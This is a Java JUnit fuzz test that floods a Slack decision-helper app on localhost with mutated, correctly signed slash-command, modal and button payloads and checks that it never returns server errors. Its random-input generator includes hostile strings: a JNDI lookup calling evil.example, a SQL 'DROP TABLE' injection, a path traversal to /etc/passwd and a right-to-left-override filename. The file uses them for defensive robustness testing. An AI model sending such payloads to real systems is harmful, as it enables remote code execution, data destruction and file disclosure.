package com.frameworkadvisor.web;

import ch.qos.logback.classic.Level;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.frameworkadvisor.decision.Option;
import com.frameworkadvisor.decision.Question;
import com.frameworkadvisor.slack.payload.SlackIds;
import com.frameworkadvisor.support.FakeSlackApi;
import com.frameworkadvisor.support.LogCapture;
import com.frameworkadvisor.support.SignedRequests;
import com.frameworkadvisor.support.SlackPayloads;
import com.frameworkadvisor.support.TestApp;
import com.frameworkadvisor.support.UncaughtExceptions;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.URI;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;

import static com.frameworkadvisor.support.SlackPayloads.ASKER;
import static com.frameworkadvisor.support.SlackPayloads.CHANNEL;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Thousands of correctly signed Slack requests, each a real payload shape (slash command, decision modal
 * submission, Re-answer click) with random mutations. Whatever arrives, the app answers with a 2xx or a 4xx,
 * never a 5xx or a stack trace, logs no unexpected exception, and still serves the happy path afterwards.
 */
class FuzzTest {
    /** Fixed so a failure can be replayed; {@code -Dfuzz.seed=…} explores other inputs. */
    private static final long SEED = Long.getLong("fuzz.seed", 20_240_505L);
    private static final int CASES = 5_000;
    private static final int THREADS = 8;
    private static final Duration REQUEST_TIMEOUT = Duration.ofSeconds(10);
    private static final Duration WHOLE_RUN = Duration.ofSeconds(45);
    private static final Duration WAIT = Duration.ofSeconds(10);
    private static final String AFTER_CHANNEL = "C0AFTERFUZZ";
    /** The thread the fuzzed re-answer clicks and revisions name: a ts the test makes up, not one the fake answered. */
    private static final String PRETEND_THREAD_TS = "1700000000.000101";
    private static final ObjectMapper MAPPER = new ObjectMapper();

    /** One request to send: which shape it came from, what was done to it, and the signed body. */
    record Case(int number, String shape, List<String> mutations, String body, String contentType) {
        String describe() {
            String start = body.length() > 300 ? body.substring(0, 300) + "…(" + body.length() + " chars)" : body;
            return "case #" + number + " (seed " + SEED + ", " + shape + ", " + mutations + "): " + start;
        }
    }

    /** What the app answered, or the I/O problem that prevented an answer. */
    record Outcome(Case sent, int status, String body, String ioProblem) {
    }

    @Test
    void thousands_of_mutated_signed_payloads_get_no_5xx_no_stack_trace_and_the_app_still_works()
            throws Exception {
        List<Case> cases = new Mutator(new Random(SEED)).cases(CASES);
        try (FakeSlackApi slack = new FakeSlackApi();
             LogCapture logs = LogCapture.startQuietly();
             UncaughtExceptions uncaught = UncaughtExceptions.record();
             TestApp app = TestApp.start(slack, Map.of(), false)) {

            List<Outcome> outcomes = sendAll(app.server.port(), cases);

            List<String> problems = new ArrayList<>();
            for (Outcome outcome : outcomes) {
                String problem = problem(outcome);
                if (problem != null) {
                    problems.add(problem + " for " + outcome.sent().describe());
                }
            }
            Map<Integer, Long> statuses = outcomes.stream()
                    .collect(Collectors.groupingBy(Outcome::status, TreeMap::new, Collectors.counting()));
            assertTrue(problems.isEmpty(), problems.size() + " bad answers (statuses " + statuses + "), first: "
                    + String.join("\n", problems.subList(0, Math.min(10, problems.size()))));
            // The mutations must reach the listeners, not only the parsers: some requests are still good enough
            // to open a modal or to post.
            assertTrue(statuses.getOrDefault(200, 0L) > CASES / 10, "statuses " + statuses);
            assertTrue(statuses.keySet().stream().anyMatch(s -> s >= 400), "statuses " + statuses);
            assertTrue(!slack.calls("views.open").isEmpty() && !slack.calls("chat.postMessage").isEmpty(),
                    "some mutated requests reached Slack: " + slack.calls().size() + " calls");

            happyPathStillWorks(app);

            app.finishPosting();
            List<LogCapture.Event> unexpected = logs.events(e -> e.level() == Level.ERROR && e.hasThrowable());
            assertAll(
                    () -> assertTrue(unexpected.isEmpty(), unexpected.size() + " errors with an exception were "
                            + "logged:\n" + explain(unexpected, outcomes)),
                    () -> assertTrue(uncaught.recorded().isEmpty(), "exceptions killed threads: "
                            + uncaught.recorded()));
        }
    }

    private static List<Outcome> sendAll(int port, List<Case> cases) throws InterruptedException {
        HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(5)).build();
        URI uri = URI.create("http://127.0.0.1:" + port + AdvisorServer.EVENTS_PATH);
        ExecutorService pool = Executors.newFixedThreadPool(THREADS);
        List<Future<Outcome>> futures = new ArrayList<>();
        try {
            for (Case c : cases) {
                futures.add(pool.submit(() -> send(http, uri, c)));
            }
            pool.shutdown();
            assertTrue(pool.awaitTermination(WHOLE_RUN.toMillis(), TimeUnit.MILLISECONDS),
                    "the fuzz run did not finish within " + WHOLE_RUN);
        } finally {
            pool.shutdownNow();
        }
        List<Outcome> outcomes = new ArrayList<>();
        for (Future<Outcome> future : futures) {
            try {
                outcomes.add(future.get());
            } catch (ExecutionException e) {
                throw new AssertionError("sending a case failed", e.getCause());
            }
        }
        return outcomes;
    }

    private static Outcome send(HttpClient http, URI uri, Case c) throws InterruptedException {
        String timestamp = Long.toString(Instant.now().getEpochSecond());
        HttpRequest request = HttpRequest.newBuilder(uri)
                .timeout(REQUEST_TIMEOUT)
                .header("Content-Type", c.contentType())
                .header("X-Slack-Request-Timestamp", timestamp)
                .header("X-Slack-Signature", SignedRequests.signature(SignedRequests.SIGNING_SECRET, timestamp,
                        c.body()))
                .POST(HttpRequest.BodyPublishers.ofString(c.body(), StandardCharsets.UTF_8))
                .build();
        try {
            HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
            return new Outcome(c, response.statusCode(), response.body(), null);
        } catch (IOException e) {
            return new Outcome(c, -1, "", e.toString());
        }
    }

    /** What is wrong with one answer, or null. */
    private static String problem(Outcome outcome) {
        if (outcome.ioProblem() != null) {
            // A server may close the connection on a body it refuses as too large; anything else must answer.
            long bytes = outcome.sent().body().getBytes(StandardCharsets.UTF_8).length;
            return bytes > RequestBody.MAX_BYTES ? null : "no answer (" + outcome.ioProblem() + ")";
        }
        if (outcome.status() >= 500) {
            return "HTTP " + outcome.status() + " " + outcome.body();
        }
        if (outcome.status() == 401) {
            return "401 for a correctly signed request";
        }
        if (outcome.body().contains("Exception") || outcome.body().contains("\tat ")) {
            return "a stack trace in the answer " + outcome.body();
        }
        return null;
    }

    /**
     * Each distinct exception once, with how often it was logged and one request that caused it: the app's
     * polite answer quotes the request id that the log line carries.
     */
    private static String explain(List<LogCapture.Event> errors, List<Outcome> outcomes) {
        Map<String, List<LogCapture.Event>> byException = errors.stream().collect(Collectors.groupingBy(
                e -> e.throwable().lines().findFirst().orElse(""), TreeMap::new, Collectors.toList()));
        StringBuilder text = new StringBuilder();
        byException.forEach((exception, events) -> {
            LogCapture.Event example = events.get(0);
            String requestId = example.mdc().getOrDefault("request_id", "?");
            String cause = outcomes.stream().filter(o -> o.body().contains("reference " + requestId + ")"))
                    .map(o -> o.sent().describe()).findFirst().orElse("(request not identified)");
            String where = example.throwable().lines().filter(line -> line.contains("at com.frameworkadvisor."))
                    .findFirst().orElse("").strip();
            text.append(events.size()).append(" × ").append(example.message()).append(": ")
                    .append(example.throwable().lines().limit(3).collect(Collectors.joining(" | ")))
                    .append(where.isEmpty() ? "" : " | … " + where)
                    .append("\n    caused by ").append(cause).append('\n');
        });
        return text.toString();
    }

    private static void happyPathStillWorks(TestApp app) {
        var command = app.post(SlackPayloads.slashCommand("/framework", "After the fuzz", ASKER, AFTER_CHANNEL));
        assertEquals(200, command.statusCode(), command.body());
        app.slack.await("views.open", c -> c.param("view").contains(AFTER_CHANNEL), 1, WAIT);

        var ack = app.postPayload(SlackPayloads.viewSubmission(ASKER, SlackPayloads.newDecisionMetadata(
                AFTER_CHANNEL), SlackPayloads.djangoAnswers(), "After the fuzz"));
        assertEquals(200, ack.statusCode(), ack.body());
        assertTrue(ack.body().isEmpty(), ack.body());
        // Behind it in the outbox may be the fuzz run's own accepted submissions: a longer wait on a busy machine.
        var posts = app.slack.await("chat.postMessage", c -> AFTER_CHANNEL.equals(c.param("channel")), 2,
                WAIT.multipliedBy(3));
        assertTrue(posts.get(0).param("text").contains("Django"), posts.get(0).param("text"));
    }

    /** Real payload shapes, mutated at random: structure, types, values, and the raw text. */
    private static final class Mutator {
        private static final String[] TYPES = {"view_submission", "block_actions", "view_closed",
            "block_suggestion", "shortcut", "message_action", "interactive_message", "dialog_submission",
            "workflow_step_edit", "", "no_such_type"};
        private static final String[] KEYS = {"type", "view", "user", "actions", "channel", "private_metadata",
            "state", "values", "callback_id", "value", "selected_option", "action_id", "id", "trigger_id",
            "admin_ui", "project", "container", "message"};
        private static final String FLIPS = "{}[]\":,\\ \u0000aZ9é";

        private final Random random;
        private final List<String> questionIds;
        private final List<String> optionIds;

        Mutator(Random random) {
            this.random = random;
            this.questionIds = TestApp.bank().questions().stream().map(Question::id).toList();
            this.optionIds = TestApp.bank().questions().stream().flatMap(q -> q.options().stream())
                    .map(Option::id).distinct().toList();
        }

        List<Case> cases(int count) {
            List<Case> cases = new ArrayList<>(count);
            for (int i = 0; i < count; i++) {
                int shape = random.nextInt(10);
                cases.add(shape < 3 ? slashCommand(i) : shape < 7 ? submission(i) : reanswer(i));
            }
            return cases;
        }

        private Case slashCommand(int number) {
            List<String> mutations = new ArrayList<>();
            List<String[]> fields = parseForm(SlackPayloads.slashCommand(random.nextBoolean() ? "" : "Portal"));
            for (int n = 1 + random.nextInt(3); n > 0; n--) {
                int at = random.nextInt(fields.size());
                switch (random.nextInt(8)) {
                    case 0 -> {
                        mutations.add("delete " + fields.get(at)[0]);
                        fields.remove(at);
                        if (fields.isEmpty()) {
                            fields.add(new String[] {"text", ""});
                        }
                    }
                    case 1 -> {
                        mutations.add("replace " + fields.get(at)[0]);
                        fields.get(at)[1] = text();
                    }
                    case 2 -> {
                        mutations.add("duplicate " + fields.get(at)[0]);
                        fields.add(random.nextInt(fields.size() + 1), new String[] {fields.get(at)[0], text()});
                    }
                    case 3 -> {
                        mutations.add("unknown field");
                        fields.add(new String[] {text(), text()});
                    }
                    case 4 -> mutations.add("set " + set(fields, "command", pick("/framework", "/FRAMEWORK",
                            "/other", "", "framework", "/framework help", text())));
                    case 5 -> mutations.add("set " + set(fields, "text", pick("help", "HELP ", text())));
                    case 6 -> mutations.add("set " + set(fields, "channel_id", channelish()));
                    default -> mutations.add("set " + set(fields, "user_id", userish()));
                }
            }
            String body = fields.stream().map(f -> encode(f[0]) + "=" + encode(f[1]))
                    .collect(Collectors.joining("&"));
            if (random.nextInt(5) == 0) {
                mutations.add("raw form");
                body = mutateForm(body);
            }
            return new Case(number, "slash command", mutations, body, SignedRequests.FORM);
        }

        private Case submission(int number) {
            boolean revision = random.nextBoolean();
            Map<String, String> answers = new LinkedHashMap<>();
            TestApp.bank().questions().forEach(q -> answers.put(q.id(),
                    q.options().get(random.nextInt(q.options().size())).id()));
            String metadata = revision ? revisionMetadata().toString() : SlackPayloads.newDecisionMetadata(CHANNEL);
            ObjectNode payload = SlackPayloads.viewSubmission(ASKER, metadata, answers,
                    random.nextBoolean() ? null : "Customer portal");
            return payloadCase(number, revision ? "re-answer submission" : "submission", payload);
        }

        private Case reanswer(int number) {
            ObjectNode value = MAPPER.createObjectNode().put("project", "Customer portal").put("asked_by", ASKER);
            ObjectNode answers = value.putObject("answers");
            TestApp.bank().questions().forEach(q -> answers.put(q.id(),
                    q.options().get(random.nextInt(q.options().size())).id()));
            return payloadCase(number, "re-answer click",
                    SlackPayloads.reanswerClick("U0TEAMMATE", CHANNEL, PRETEND_THREAD_TS, value.toString()));
        }

        private Case payloadCase(int number, String shape, ObjectNode payload) {
            List<String> mutations = new ArrayList<>();
            for (int n = 1 + random.nextInt(3); n > 0; n--) {
                mutations.add(mutate(payload));
            }
            String json = payload.toString();
            if (random.nextInt(5) == 0) {
                mutations.add("raw json");
                json = mutateText(json);
            }
            String body;
            String contentType = SignedRequests.FORM;
            switch (random.nextInt(20)) {
                case 0 -> {
                    mutations.add("payload not encoded");
                    body = "payload=" + json;
                }
                case 1 -> {
                    mutations.add("payload twice");
                    body = SignedRequests.payloadForm(json) + "&" + SignedRequests.payloadForm(text());
                }
                case 2 -> {
                    mutations.add("no payload field");
                    body = encode(text()) + "=" + encode(json);
                }
                case 3 -> {
                    mutations.add("sent as JSON");
                    body = json;
                    contentType = "application/json";
                }
                default -> body = SignedRequests.payloadForm(json);
            }
            return new Case(number, shape, mutations, body, contentType);
        }

        /** One structural mutation of the payload tree; returns what it did. */
        private String mutate(ObjectNode payload) {
            switch (random.nextInt(12)) {
                case 0, 1 -> {
                    Slot slot = anySlot(payload);
                    slot.remove();
                    return "delete " + slot.name();
                }
                case 2, 3 -> {
                    Slot slot = anySlot(payload);
                    slot.set(value());
                    return "replace " + slot.name();
                }
                case 4 -> {
                    String type = pick(TYPES);
                    payload.put("type", type);
                    if (random.nextBoolean()) {
                        payload.put("callback_id", pick(SlackIds.DECIDE_HERE_SHORTCUT, SlackIds.DECISION_MODAL,
                                text()));
                    }
                    return "type " + type;
                }
                case 5 -> {
                    JsonNode view = payload.path("view");
                    if (view.isObject()) {
                        ((ObjectNode) view).put("callback_id", pick(SlackIds.DECISION_MODAL, "other_modal", "",
                                text()));
                        return "callback_id";
                    }
                    JsonNode actions = payload.path("actions");
                    if (actions.isArray() && !actions.isEmpty() && actions.get(0).isObject()) {
                        ((ObjectNode) actions.get(0)).put("action_id", pick(SlackIds.REANSWER,
                                SlackIds.RECORD_DECISION, SlackIds.REOPEN_DECISION, SlackIds.HOME_NEW_DECISION,
                                "other_button", "", text()));
                        return "action_id";
                    }
                    return "no ids to change";
                }
                case 6 -> {
                    JsonNode values = payload.path("view").path("state").path("values");
                    if (!values.isObject()) {
                        return "no options to change";
                    }
                    values.fields().forEachRemaining(block -> block.getValue().fields().forEachRemaining(element -> {
                        if (element.getValue().isObject() && random.nextBoolean()) {
                            ObjectNode answer = (ObjectNode) element.getValue();
                            switch (random.nextInt(4)) {
                                case 0 -> answer.putNull("selected_option");
                                case 1 -> answer.remove("selected_option");
                                case 2 -> answer.putObject("selected_option").set("value", value());
                                default -> answer.putObject("selected_option").put("value",
                                        pick(optionIds.get(random.nextInt(optionIds.size())), text()));
                            }
                        }
                    }));
                    return "option values";
                }
                case 7 -> {
                    JsonNode view = payload.path("view");
                    if (view.isObject()) {
                        ((ObjectNode) view).put("private_metadata", privateMetadata());
                        return "private_metadata";
                    }
                    return "no private_metadata";
                }
                case 8 -> {
                    JsonNode actions = payload.path("actions");
                    if (actions.isArray() && !actions.isEmpty() && actions.get(0).isObject()) {
                        ((ObjectNode) actions.get(0)).put("value", buttonValue());
                        return "button value";
                    }
                    return "no button";
                }
                case 9 -> {
                    JsonNode user = payload.path("user");
                    if (user.isObject()) {
                        ((ObjectNode) user).put("id", userish());
                    }
                    JsonNode channel = payload.path("channel");
                    if (channel.isObject()) {
                        ((ObjectNode) channel).put("id", channelish());
                    }
                    return "user and channel ids";
                }
                case 10 -> {
                    JsonNode project = payload.path("view").path("state").path("values").path("project")
                            .path("project");
                    if (project.isObject()) {
                        ((ObjectNode) project).put("value", text());
                        return "project";
                    }
                    return "no project";
                }
                default -> {
                    if (payload.path("actions").isArray()) {
                        ((ArrayNode) payload.get("actions")).add(value());
                        return "extra action";
                    }
                    payload.set("actions", value());
                    return "actions";
                }
            }
        }

        /** A field or element anywhere in the tree, so that deleting or replacing it can hit any level. */
        private Slot anySlot(ObjectNode root) {
            List<Slot> slots = new ArrayList<>();
            collect(root, slots);
            return slots.isEmpty() ? new Slot(root, "type", -1) : slots.get(random.nextInt(slots.size()));
        }

        private static void collect(JsonNode node, List<Slot> slots) {
            if (node.isObject()) {
                List<String> names = new ArrayList<>();
                node.fieldNames().forEachRemaining(names::add);
                for (String name : names) {
                    slots.add(new Slot(node, name, -1));
                    collect(node.get(name), slots);
                }
            } else if (node.isArray()) {
                for (int i = 0; i < node.size(); i++) {
                    slots.add(new Slot(node, null, i));
                    collect(node.get(i), slots);
                }
            }
        }

        /** A place in a JSON tree: a field of an object, or an element of an array. */
        private record Slot(JsonNode parent, String field, int index) {
            String name() {
                return field != null ? field : "[" + index + "]";
            }

            void remove() {
                if (field != null) {
                    ((ObjectNode) parent).remove(field);
                } else {
                    ((ArrayNode) parent).remove(index);
                }
            }

            void set(JsonNode value) {
                if (field != null) {
                    ((ObjectNode) parent).set(field, value);
                } else {
                    ((ArrayNode) parent).set(index, value);
                }
            }
        }

        private JsonNode value() {
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            return switch (random.nextInt(10)) {
                case 0 -> nodes.numberNode(random.nextInt());
                case 1 -> nodes.numberNode(pick(Long.MAX_VALUE, Long.MIN_VALUE, 0L));
                case 2 -> nodes.numberNode(random.nextDouble() * 1e300);
                case 3 -> nodes.booleanNode(random.nextBoolean());
                case 4 -> nodes.nullNode();
                case 5 -> {
                    ArrayNode array = nodes.arrayNode();
                    for (int i = random.nextInt(4); i > 0; i--) {
                        array.add(random.nextBoolean() ? nodes.textNode(text()) : nodes.numberNode(i));
                    }
                    yield array;
                }
                case 6 -> {
                    ObjectNode object = nodes.objectNode();
                    for (int i = random.nextInt(4); i > 0; i--) {
                        object.put(pick(KEYS), text());
                    }
                    yield object;
                }
                default -> nodes.textNode(text());
            };
        }

        /** Text a hostile or broken client might send. */
        private String text() {
            return switch (random.nextInt(22)) {
                case 0 -> "";
                case 1 -> "<!channel>";
                case 2 -> "<!here> <!everyone> <@U0ASKER1> <#C0GENERAL|general> <https://evil.example|click>";
                case 3 -> "Ünïcødé ✓ 🚀 𝔘𝔫𝔦 \u202Egnp.exe \u200B\uFEFF";
                case 4 -> "\u0000\u0001\u001f\r\n";
                case 5 -> randomCodePoints(1 + random.nextInt(40));
                case 6 -> "x".repeat(pick(3_001, 10_000, 70_000));
                case 7 -> optionIds.get(random.nextInt(optionIds.size()));
                case 8 -> questionIds.get(random.nextInt(questionIds.size()));
                case 9 -> "unsure";
                case 10 -> pick("0", "-1", "1e999", "NaN", "99999999999999999999999");
                case 11 -> pick("{}", "[]", "null", "{\"channel\":\"C0GENERAL\"}", "{\"channel\":");
                case 12 -> pick("%zz%", "&payload=%7B%7D", "a=b&c", "%", "+");
                case 13 -> "'; DROP TABLE decisions; --";
                case 14 -> "\\\"\\u0000";
                case 15 -> randomAscii(1 + random.nextInt(20));
                case 16 -> pick("C0GENERAL", "U0ASKER1", "D0DIRECT", "G0PRIVATE", "W0ENTERPRISE", "UBOT0001");
                case 17 -> "../../etc/passwd";
                case 18 -> "${jndi:ldap://evil.example/a}";
                case 19 -> pick("framework_decision", "reanswer", "project", "decision_actions");
                case 20 -> "\uD800 lone \uDC00 surrogates";
                default -> PRETEND_THREAD_TS;
            };
        }

        private String channelish() {
            return pick(CHANNEL, "C" + randomAscii(8).toUpperCase(), "D0DIRECT", "G0PRIVATE", "X0NOTACHANNEL",
                    text());
        }

        private String userish() {
            return pick(ASKER, "U" + randomAscii(8).toUpperCase(), "W0ENTERPRISE", "B0BOT", text());
        }

        private ObjectNode revisionMetadata() {
            ObjectNode metadata = MAPPER.createObjectNode().put("channel", CHANNEL).put("thread_ts", PRETEND_THREAD_TS)
                    .put("parent_ts", PRETEND_THREAD_TS).put("asked_by", ASKER);
            ObjectNode previous = metadata.putObject("previous");
            questionIds.forEach(q -> previous.put(q, "unsure"));
            return metadata;
        }

        private String privateMetadata() {
            return switch (random.nextInt(9)) {
                case 0 -> text();
                case 8 -> {
                    ObjectNode metadata = revisionMetadata();
                    metadata.remove(pick("thread_ts", "parent_ts", "asked_by", "channel", "previous"));
                    yield metadata.toString();
                }
                case 1 -> MAPPER.createObjectNode().put("channel", channelish()).toString();
                case 2 -> {
                    ObjectNode metadata = revisionMetadata();
                    metadata.set(pick("thread_ts", "parent_ts", "asked_by", "channel"), value());
                    yield metadata.toString();
                }
                case 3 -> value().toString();
                case 4 -> nested(pick(10, 500, 5_000));
                case 5 -> {
                    ObjectNode metadata = revisionMetadata();
                    metadata.set("previous", randomAnswers());
                    yield metadata.toString();
                }
                case 6 -> {
                    ObjectNode metadata = revisionMetadata();
                    metadata.set("previous", value());
                    yield metadata.toString();
                }
                default -> {
                    String valid = revisionMetadata().toString();
                    yield valid.substring(0, random.nextInt(valid.length()));
                }
            };
        }

        private String buttonValue() {
            return switch (random.nextInt(6)) {
                case 0 -> text();
                case 1 -> value().toString();
                case 2 -> nested(pick(10, 500, 5_000));
                case 3 -> {
                    ObjectNode value = MAPPER.createObjectNode().put("asked_by", userish());
                    value.set("answers", randomAnswers());
                    value.set("project", random.nextBoolean() ? value() : MAPPER.getNodeFactory().textNode(text()));
                    yield value.toString();
                }
                case 4 -> {
                    ObjectNode value = MAPPER.createObjectNode().put("asked_by", ASKER);
                    value.set("answers", value());
                    yield value.toString();
                }
                default -> {
                    ObjectNode value = MAPPER.createObjectNode().put("asked_by", ASKER);
                    value.set("answers", randomAnswers());
                    yield value.toString();
                }
            };
        }

        private ObjectNode randomAnswers() {
            ObjectNode answers = MAPPER.createObjectNode();
            for (int i = random.nextInt(12); i > 0; i--) {
                String question = random.nextInt(4) == 0 ? text() : questionIds.get(random.nextInt(
                        questionIds.size()));
                if (random.nextInt(4) == 0) {
                    answers.set(question, value());
                } else {
                    answers.put(question, random.nextInt(3) == 0 ? text()
                            : optionIds.get(random.nextInt(optionIds.size())));
                }
            }
            return answers;
        }

        /** JSON nested {@code depth} levels deep, to probe parsers' recursion. */
        private String nested(int depth) {
            boolean arrays = random.nextBoolean();
            return (arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth);
        }

        private String mutateText(String json) {
            StringBuilder text = new StringBuilder(json);
            switch (random.nextInt(6)) {
                case 0 -> text.setLength(random.nextInt(text.length()));
                case 1 -> {
                    for (int i = 1 + random.nextInt(5); i > 0; i--) {
                        text.setCharAt(random.nextInt(text.length()), FLIPS.charAt(random.nextInt(FLIPS.length())));
                    }
                }
                case 2 -> {
                    int from = random.nextInt(text.length());
                    text.delete(from, Math.min(text.length(), from + 1 + random.nextInt(50)));
                }
                case 3 -> {
                    // A duplicate key: the same name twice in one object, with another value.
                    int brace = text.indexOf("{\"", random.nextInt(text.length()));
                    int at = brace < 0 ? 0 : brace;
                    text.insert(at + 1, "\"" + pick(KEYS) + "\":" + value() + ",");
                }
                case 4 -> {
                    int depth = pick(100, 1_000, 20_000);
                    text.insert(0, "[".repeat(depth)).append("]".repeat(depth));
                }
                default -> {
                    int from = random.nextInt(text.length());
                    int to = Math.min(text.length(), from + 1 + random.nextInt(200));
                    text.insert(to, text.substring(from, to));
                }
            }
            return text.toString();
        }

        private String mutateForm(String form) {
            StringBuilder text = new StringBuilder(form);
            switch (random.nextInt(4)) {
                case 0 -> text.setLength(random.nextInt(text.length()));
                case 1 -> text.insert(random.nextInt(text.length()), pick("%", "%zz", "%e2%82", "&&", "==", "+"));
                case 2 -> {
                    for (int i = 1 + random.nextInt(5); i > 0; i--) {
                        text.setCharAt(random.nextInt(text.length()), "%&=+ é".charAt(random.nextInt(6)));
                    }
                }
                default -> text.append("&").append(text);
            }
            return text.toString();
        }

        private String randomCodePoints(int count) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < count; i++) {
                int codePoint = random.nextInt(0x110000);
                if (Character.isValidCodePoint(codePoint) && (codePoint < 0xD800 || codePoint > 0xDFFF)) {
                    text.appendCodePoint(codePoint);
                }
            }
            return text.toString();
        }

        private String randomAscii(int count) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < count; i++) {
                text.append("abcdefghijklmnopqrstuvwxyz0123456789".charAt(random.nextInt(36)));
            }
            return text.toString();
        }

        @SafeVarargs
        private <T> T pick(T... choices) {
            return choices[random.nextInt(choices.length)];
        }

        private static String set(List<String[]> fields, String name, String value) {
            fields.stream().filter(f -> f[0].equals(name)).forEach(f -> f[1] = value);
            return name;
        }

        private static List<String[]> parseForm(String form) {
            List<String[]> fields = new ArrayList<>();
            for (String pair : form.split("&")) {
                int eq = pair.indexOf('=');
                fields.add(new String[] {URLDecoder.decode(pair.substring(0, eq), StandardCharsets.UTF_8),
                    URLDecoder.decode(pair.substring(eq + 1), StandardCharsets.UTF_8)});
            }
            return fields;
        }

        private static String encode(String text) {
            return URLEncoder.encode(text, StandardCharsets.UTF_8);
        }
    }
}
